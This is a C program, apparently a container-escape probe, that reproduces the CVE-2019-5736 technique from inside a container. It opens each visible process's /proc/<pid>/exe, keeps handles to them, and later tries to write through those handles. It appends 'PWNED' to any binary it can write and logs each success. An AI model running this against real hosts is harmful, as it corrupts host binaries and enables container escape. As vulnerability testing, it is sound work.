/* CVE-2019-5736 style attacker, run inside a container: for `seconds`,
 * grab /proc/<pid>/exe of every process it can see (O_PATH, kept), and
 * try to open each for writing, directly and later through
 * /proc/self/fd/N (after the process exec'd or exited: no ETXTBSY any
 * more). Every success is a line "WROTE <pid> <target>" in the log. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 512

static int held[MAX_HELD], held_pid[MAX_HELD], n_held;
static FILE *logf;

static void try_write(const char *path, int pid) {
  int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) return;
  char target[512] = "";
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n > 0) target[n] = 0;
  if (write(fd, "PWNED", 5) == 5) fprintf(logf, "WROTE %d %s\n", pid, target);
  else fprintf(logf, "OPENED-FOR-WRITE %d %s\n", pid, target);
  fflush(logf);
  close(fd);
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  int seconds = atoi(argv[1]);
  logf = fopen(argv[2], "a");
  if (!logf) return 3;
  fprintf(logf, "START %d\n", getpid());
  fflush(logf);
  time_t end = time(NULL) + seconds;
  int seen = 0;
  while (time(NULL) < end) {
    DIR *d = opendir("/proc");
    if (!d) return 4;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      try_write(path, pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd >= 0 && n_held < MAX_HELD) {
        held[n_held] = fd;
        held_pid[n_held++] = pid;
        seen++;
      } else if (fd >= 0) {
        close(fd);
      }
    }
    closedir(d);
    for (int i = 0; i < n_held; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      try_write(path, held_pid[i]);
    }
    /* Keep the table fresh: the newest processes matter. */
    if (n_held > MAX_HELD / 2) {
      for (int i = 0; i < n_held; i++) close(held[i]);
      n_held = 0;
    }
    usleep(2000);
  }
  fprintf(logf, "END seen=%d\n", seen);
  fclose(logf);
  return 0;
}
